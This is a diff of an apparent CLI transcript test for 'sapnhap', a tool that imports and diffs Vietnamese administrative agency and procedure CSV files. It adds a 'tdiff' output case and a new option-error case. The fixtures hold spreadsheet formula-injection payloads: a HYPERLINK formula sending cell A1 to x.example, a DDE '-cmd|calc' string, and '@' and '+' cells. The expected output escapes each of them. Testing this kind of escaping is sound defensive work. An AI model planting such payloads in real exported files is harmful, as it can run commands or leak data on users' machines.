@@ -82,9 +82,11 @@ code,name,kind,parent_code,unit_code,status,problem
 000.00.00.H11,"'=HYPERLINK(""http://x.example/?""&A1;""bấm"")",province-committee,,,active,
 000.00.01.H11,'@SUM(1+1),department,,,active,
 000.00.02.H11,'+Thuế,department,,,active,
-$ printf 'national_code,name,levels,agencies\n1.001193,=1+2,Cấp Xã,\n' > f-before.csv; printf 'national_code,name,levels,agencies\n1.001193,-cmd|calc,Cấp Xã,\n' > f-after.csv; sapnhap diff f-before.csv f-after.csv --format csv
+$ printf 'national_code,name,levels,agencies\n1.001193,=1+2,Cấp Xã,\n' > f-before.csv; printf 'national_code,name,levels,agencies\n1.001193,-cmd|calc,Cấp Xã,\n' > f-after.csv; sapnhap diff f-before.csv f-after.csv --format tdiff; sapnhap diff f-before.csv f-after.csv --format csv
 @@,entity,key,field,value
 '->,procedure,1.001193,name,'=1+2->-cmd|calc
+entity,kind,key,name,field,before,after,decision,reason
+procedure,changed,1.001193,'-cmd|calc,name,'=1+2,'-cmd|calc,,
 
 # UTF-16 with a byte-order mark (Excel's "Unicode text") and ';'-separated CSV (Excel's "CSV" on
 # a Vietnamese-locale Windows, with or without its sep=; line) are read like the others.
@@ -146,6 +148,10 @@ $ sapnhap agencies import samples/agencies/binhphuoc.csv --province
 $ sapnhap --db
 ! sapnhap: error: option '--db' needs a value (the working database)
 ! try 'sapnhap --help'
+[exit 2]
+$ sapnhap agencies import samples/agencies/binhphuoc.csv --province 70 --force=yes
+! sapnhap: error: option '--force' takes no value
+! try 'sapnhap agencies import --help'
 [exit 2]
 $ sapnhap validate --nonsense
 ! sapnhap: error: unknown option '--nonsense'
